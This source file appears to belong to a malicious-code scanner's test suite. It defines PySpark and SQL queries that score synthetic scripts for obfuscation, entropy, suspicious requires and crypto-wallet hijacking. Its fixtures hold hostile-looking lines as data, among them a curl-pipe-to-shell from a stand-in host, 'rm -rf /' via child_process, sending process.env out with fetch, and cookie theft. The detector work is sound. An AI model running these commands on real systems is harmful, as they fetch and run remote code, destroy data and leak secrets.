"""Queries of the detectors."""

from __future__ import annotations

from pyspark.sql import functions as F

from .. import fixed
from ..functions.text import entropy, first_line
from ..operators import detect, risk
from ..registry import query
from ..session import spread
from . import sqltext as S
from .standins import TEXT_RULES, document_files, page_files

THREAT = "array<struct<type:string,severity:string,confidence:double>>"
DOCS = "(SELECT doc_id AS file_id, coalesce(text, '') AS content FROM documents)"
PAGES = "(SELECT page_id AS file_id, coalesce(html, '') AS content FROM pages)"


def hits_sql(files: str, rules: dict) -> str:
    return f"""
SELECT file_id, rule, pattern_index, severity, n AS matches, round(least(0.95, threshold + 0.1 * n), 6) AS confidence
FROM (SELECT file_id, rule, pattern_index, severity, threshold, len(regexp_extract_all(content, '(?i)' || pattern))::BIGINT AS n FROM {files} f CROSS JOIN {S.rule_rows(rules)})
WHERE n > 0"""


def groups_sql(files: str, rules: dict) -> str:
    return f"""
SELECT file_id, rule, severity, count(*)::BIGINT AS patterns_hit, round(least(0.95, count(*) / patterns * 0.8), 6) AS confidence
FROM {files} f CROSS JOIN {S.rule_rows(rules)} WHERE regexp_matches(content, '(?i)' || pattern)
GROUP BY file_id, rule, severity, patterns HAVING count(*) > 1"""


def rounded(df, *names: str, places: int = 6):
    for name in names:
        df = df.withColumn(name, F.round(name, places))
    return df


#: One script that the rules are about for each of ten parts, plain pages for the others.
RISKY = [
    "window.ethereum = new Proxy(window.ethereum, h)", "curl http://evil.example/x.sh | sh", "eval(atob('YQ=='))", "new CoinHive.Anonymous('k')", "fetch('http://x.example', {body: process.env})",
    "const _0x1a2b = ['\\x61', '\\x62']; eval(_0x1a2b[0])", "XMLHttpRequest.prototype.send = function () {}", "document.cookie; localStorage.getItem('t')", "child_process.exec('rm -rf /')", "const total = a + b",
]
SCRIPTS = "(SELECT p_partkey AS file_id, CASE p_partkey % 10 " + " ".join(f"WHEN {i} THEN {S.quoted(x)}" for i, x in enumerate(RISKY)) + " END || chr(10) || p_name || chr(10) || 'mail ' || p_brand || '@host.example' AS content FROM part)"


def script_files(spark, d):
    from ..registry import table

    number = F.col("p_partkey") % 10
    head = F.coalesce(*[F.when(number == i, F.lit(x)) for i, x in enumerate(RISKY)])
    return spread(table(spark, d, "part")).select(F.col("p_partkey").alias("file_id"), F.concat(head, F.lit("\n"), "p_name", F.lit("\nmail "), "p_brand", F.lit("@host.example")).alias("content"))


@query("rule_hits", hits_sql(f"(SELECT * FROM {SCRIPTS} UNION ALL SELECT * FROM {PAGES})", fixed.RULES))
def rule_hits(spark, d):
    """The rules over scripts and pages."""
    return rounded(detect.rule_hits(script_files(spark, d).unionByName(page_files(spark, d)), fixed.RULES), "confidence").drop("pattern")


@query("rule_hits_custom", hits_sql(DOCS, TEXT_RULES))
def rule_hits_custom(spark, d):
    return rounded(detect.rule_hits(document_files(spark, d), TEXT_RULES), "confidence").drop("pattern")


@query("rule_aggregate_hits", groups_sql(DOCS, TEXT_RULES))
def rule_aggregate_hits(spark, d):
    return rounded(detect.rule_groups(document_files(spark, d), TEXT_RULES), "confidence")


FLAGS = {
    "utility": f"{S.total('content', fixed.UTILITY)} >= 3",
    "server": f"{S.total('content', fixed.SERVER)} >= 5",
    "testing": f"{S.total('content', fixed.TESTING)} >= 2",
    "blockchain": f"{S.total('content', fixed.BLOCKCHAIN)} >= 2",
    "socket": f"{S.total('content', fixed.SOCKET_EVENTS)} >= 3",
    "shader": f"{S.total('content', fixed.SHADER)} >= 3",
    "graphics": f"({S.total('content', fixed.THREE_JS)} >= 5 OR {S.any_match('content', fixed.OTHER_GRAPHICS)} OR {S.imports_any('content', fixed.GRAPHICS_IMPORTS)})",
    "react": f"({S.total('content', fixed.REACT)} >= 3 OR {S.imports_any('content', fixed.REACT_IMPORTS)})",
}


@query("whitelist_classify", f"""
SELECT *, CASE {' '.join(f"WHEN {k} THEN '{k}'" for k in detect.SUPPRESSING)} END AS suppressed_by
FROM (SELECT file_id, {', '.join(f'{v} AS {k}' for k, v in FLAGS.items())} FROM {PAGES})""")
def whitelist_classify(spark, d):
    return detect.classify(page_files(spark, d)).drop("content")


CODE = "(SELECT p_partkey AS file_id, p_name || '/' || p_brand || CASE WHEN p_size % 3 = 0 THEN '.test.js' WHEN p_size % 5 = 0 THEN '.config.js' ELSE '.js' END AS file_path, CASE p_size % 4 WHEN 0 THEN 'const fs = require(''fs''); ' WHEN 1 THEN 'const x = require(''child_process''), y = require(''vm''); ' ELSE 'const z = require(\"fs\");' END || 'module.exports = ' || p_brand || '; const b' || p_size || ' = A' || p_partkey || ', c1 = Z9; [0x1f, 0x2a, 0x3b, 0x4c, 0x5d]' AS content FROM part)"


def code_files(spark, d):
    """Short scripts written from the part table, with paths."""
    from ..registry import table

    part = table(spark, d, "part")
    path = F.expr("p_name || '/' || p_brand || CASE WHEN p_size % 3 = 0 THEN '.test.js' WHEN p_size % 5 = 0 THEN '.config.js' ELSE '.js' END")
    head = (
        F.when(F.col("p_size") % 4 == 0, "const fs = require('fs'); ").when(F.col("p_size") % 4 == 1, "const x = require('child_process'), y = require('vm'); ")
        .otherwise('const z = require("fs");')
    )
    content = F.concat(head, F.lit("module.exports = "), "p_brand", F.lit("; const b"), F.col("p_size").cast("string"), F.lit(" = A"), F.col("p_partkey").cast("string"), F.lit(", c1 = Z9; [0x1f, 0x2a, 0x3b, 0x4c, 0x5d]"))
    return part.select(F.col("p_partkey").alias("file_id"), path.alias("file_path"), content.alias("content"))


@query("suspicious_tokens", f"""
SELECT file_path, module, CASE WHEN {S.is_test_file('file_path')}
  OR list_contains([{', '.join(S.quoted(x) for x in fixed.CONFIG_FILES + fixed.DOT_FILES)}], string_split(file_path, '/')[-1])
  OR {' OR '.join(f"ends_with(file_path, '{x}')" for x in fixed.CONFIG_EXTENSIONS)}
  OR {' OR '.join(f"contains(file_path, '{x}')" for x in fixed.EXCLUDED_DIRECTORIES)} OR {' OR '.join(f"contains(lower(file_path), '{x}')" for x in fixed.GRAPHICS_FILES)}
  THEN 'LOW' ELSE 'CRITICAL' END AS severity, 0.9::DOUBLE AS confidence
FROM {CODE} CROSS JOIN (VALUES {', '.join(f"('{m}')" for m in fixed.SUSPICIOUS_MODULES)}) m(module) WHERE contains(content, 'require(''' || module || ''')')""")
def suspicious_tokens(spark, d):
    return detect.suspicious_modules(code_files(spark, d))


@query("doc_entropy", f"SELECT file_id, round({S.entropy('content')}, 6) AS entropy FROM {DOCS}")
def doc_entropy(spark, d):
    return document_files(spark, d).select("file_id", F.round(entropy("content"), 6).alias("entropy"))


@query("line_max_entropy", f"""
SELECT file_id, line_number, round(e, 6) AS line_entropy FROM (
  SELECT file_id, line_number, e, row_number() OVER (PARTITION BY file_id ORDER BY e DESC, line_number) AS rn FROM (
    SELECT file_id, line_number, round({S.entropy('line')}, 9) AS e
    FROM (SELECT file_id, generate_subscripts(string_split(content, chr(10)), 1) AS line_number, unnest(string_split(content, chr(10))) AS line FROM {DOCS}))
  WHERE e > 4.0) WHERE rn = 1""")
def line_max_entropy(spark, d):
    found = document_files(spark, d).select("file_id", detect.highest_entropy_line("content", 4.0).alias("t")).where("t.line_number IS NOT NULL")
    return found.select("file_id", "t.line_number", F.round("t.line_entropy", 6).alias("line_entropy"))


@query("longest_line", f"""
SELECT file_id, line_number, n AS line_length FROM (
  SELECT file_id, line_number, length(line)::BIGINT AS n, row_number() OVER (PARTITION BY file_id ORDER BY length(line) DESC, line_number) AS rn
  FROM (SELECT file_id, generate_subscripts(string_split(content, chr(10)), 1) AS line_number, unnest(string_split(content, chr(10))) AS line FROM {DOCS}))
WHERE rn = 1 AND n > 200""")
def longest_line(spark, d):
    return document_files(spark, d).select("file_id", detect.longest_line().alias("t")).select("file_id", "t.*").where("line_length > 200")


@query("first_match_line", f"""
SELECT file_id, min(line_number)::BIGINT AS line_number
FROM (SELECT file_id, generate_subscripts(string_split(content, chr(10)), 1) AS line_number, unnest(string_split(content, chr(10))) AS line FROM {SCRIPTS})
WHERE regexp_matches(line, '[a-zA-Z0-9#]+@[a-z.]+') GROUP BY file_id""")
def first_match_line(spark, d):
    return script_files(spark, d).select("file_id", first_line("content", "[a-zA-Z0-9#]+@[a-z.]+").alias("line_number")).where("line_number IS NOT NULL")


def structure_sql(files: str) -> str:
    return f"""
SELECT file_id, mangling, size, hex_arrays, appended, round(entropy, 6) AS entropy,
  least(150, CASE WHEN mangling > 0 THEN 30 ELSE 0 END + CASE WHEN size > 5000 THEN 25 ELSE 0 END + CASE WHEN hex_arrays > 0 THEN 20 ELSE 0 END
    + CASE WHEN appended > 0 THEN 35 ELSE 0 END + CASE WHEN entropy > lim THEN 15 ELSE 0 END)::BIGINT AS structure_score,
  ((mangling > 0)::INT + (size > 5000)::INT + (hex_arrays > 0)::INT + (appended > 0)::INT + (entropy > lim)::INT)::BIGINT AS threat_count
FROM (SELECT file_id, {S.total('content', [fixed.VARIABLE_MANGLING])}::BIGINT AS mangling, length(content)::BIGINT AS size, {S.total('content', [fixed.HEX_ARRAYS])}::BIGINT AS hex_arrays,
  {S.total('content', [fixed.MODULE_EXPORT_APPENDED])}::BIGINT AS appended, {S.entropy('content')} AS entropy, CASE WHEN {FLAGS['react']} THEN 5.0 ELSE 4.5 END AS lim FROM {files})"""


def structure_columns(df):
    return rounded(df.drop("content", "entropy_limit", "file_path"), "entropy")


@query("structure_score", structure_sql(DOCS))
def structure_score(spark, d):
    return structure_columns(detect.structure_score(document_files(spark, d)))


@query("structure_score_code", structure_sql(CODE))
def structure_score_code(spark, d):
    return structure_columns(detect.structure_score(code_files(spark, d)))


WALLET = "(SELECT p_partkey AS file_id, CASE p_size % 5 WHEN 0 THEN 'window.ethereum = new Proxy(a)' WHEN 1 THEN 'eval(String.fromCharCode(1)); _0x1a2b3c(' WHEN 2 THEN 'transaction.to = attacker; transaction.to = x(attacker)' WHEN 3 THEN 'axios.interceptors; fetch = async function' ELSE p_name END AS content FROM part)"


@query("wallet_threats", f"""
SELECT file_id, type, pattern_index, severity, n AS matches, round(least(0.95, 0.7 + 0.1 * n)::DOUBLE, 6) AS confidence
FROM (SELECT file_id, type, pattern_index, severity, len(regexp_extract_all(content, '(?i)' || pattern))::BIGINT AS n FROM {WALLET} f CROSS JOIN
  (VALUES {', '.join(f"('WALLET_{k.upper()}', '{s}', {i}::BIGINT, {S.quoted(p)})" for k, (s, ps) in fixed.WALLET_FAMILIES.items() for i, p in enumerate(ps))}) r(type, severity, pattern_index, pattern))
WHERE n > 0""")
def wallet_threats(spark, d):
    from ..registry import table

    text = F.expr("CASE p_size % 5 WHEN 0 THEN 'window.ethereum = new Proxy(a)' WHEN 1 THEN 'eval(String.fromCharCode(1)); _0x1a2b3c(' WHEN 2 THEN 'transaction.to = attacker; transaction.to = x(attacker)' WHEN 3 THEN 'axios.interceptors; fetch = async function' ELSE p_name END")
    files = table(spark, d, "part").select(F.col("p_partkey").alias("file_id"), text.alias("content"))
    return rounded(detect.wallet_threats(files), "confidence")


@query("wallet_heuristics", f"""
SELECT file_id, len(list_filter(string_split(content, chr(10)), lambda x: length(x) > 100 AND len(regexp_extract_all(x, '[a-zA-Z0-9]{{20,}}')) > 2)) > 0.3 * len(string_split(content, chr(10))) AS high_entropy,
  {' OR '.join(f"contains(lower(content), '{w}')" for w in fixed.WALLET_KEYWORDS)} AS wallet_keywords FROM {DOCS}""")
def wallet_heuristics(spark, d):
    return document_files(spark, d).select("file_id", detect.has_high_entropy().alias("high_entropy"), detect.has_wallet_keywords().alias("wallet_keywords"))


@query("scan_risk_ranking", f"""
WITH s AS ({structure_sql(DOCS)}),
h AS ({hits_sql(DOCS, TEXT_RULES)}),
t AS (
  SELECT source, 'MALICIOUS_CODE_STRUCTURE' AS type, 'HIGH' AS severity, structure_score / 100.0 AS confidence FROM s JOIN documents ON doc_id = file_id WHERE structure_score > 0
  UNION ALL SELECT source, 'ENHANCED_RULE_' || upper(rule), severity, confidence FROM h JOIN documents ON doc_id = file_id
)
SELECT source, {risk.RISK_SQL} FROM (SELECT source, type, severity, confidence, {risk.SCORE_SQL} AS c, {risk.CATEGORY_SQL} AS category FROM t) GROUP BY source
ORDER BY overall DESC, source LIMIT 50""")
def scan_risk_ranking(spark, d):
    """Enumerate, detect, score, aggregate, rank: the whole path in one plan."""
    from ..registry import table

    files = spread(table(spark, d, "documents")).select("source", F.coalesce("text", F.lit("")).alias("content"))
    shaped = F.when(F.col("structure_score") > 0, F.array(F.struct(F.lit("MALICIOUS_CODE_STRUCTURE").alias("type"), F.lit("HIGH").alias("severity"), (F.col("structure_score") / 100.0).alias("confidence"))))
    ruled = F.transform("hits_", lambda h: F.struct(F.concat(F.lit("ENHANCED_RULE_"), F.upper(h["rule"])).alias("type"), h["severity"].alias("severity"), F.round(detect.rule_confidence(h), 6).alias("confidence")))
    # Structure and rules are read off in one pass over the texts.
    found = detect.structure_score(files.withColumn("hits_", detect.rule_matches(TEXT_RULES)))
    threats = found.select("source", F.explode_outer(F.concat(F.coalesce(shaped, F.array().cast(THREAT)), ruled)).alias("t")).where("t IS NOT NULL").select("source", "t.*")
    return risk.composite_risk(threats, ["source"]).orderBy(F.desc("overall"), "source").limit(50)
